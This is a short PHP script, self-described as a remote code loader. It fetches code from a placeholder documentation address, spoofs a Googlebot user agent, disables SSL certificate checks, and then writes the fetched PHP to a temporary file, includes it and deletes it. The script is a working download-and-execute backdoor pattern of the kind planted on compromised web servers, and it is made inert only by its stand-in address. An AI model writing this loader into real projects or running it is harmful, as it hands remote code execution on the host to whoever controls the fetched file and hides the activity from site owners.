<?php
// A remote code loader: the script is fetched from a fixed address with a browser's headers,
// checked to be PHP and included from a temporary file. (Inert: the address is a documentation one.)
$src = 'https://203.0.113.40/static/theme.txt';
function grab($u) {
    $c = curl_init();
    curl_setopt($c, CURLOPT_URL, $u);
    curl_setopt($c, CURLOPT_RETURNTRANSFER, 1);
    curl_setopt($c, CURLOPT_SSL_VERIFYPEER, 0);
    curl_setopt($c, CURLOPT_USERAGENT, 'Mozilla/5.0 (compatible; Googlebot/2.1)');
    $r = curl_exec($c);
    curl_close($c);
    return $r;
}
$code = grab($src);
if ($code && strpos($code, '<?php') !== false) {
    $t = tempnam(sys_get_temp_dir(), 'c');
    file_put_contents($t, $code);
    include $t;
    @unlink($t);
}
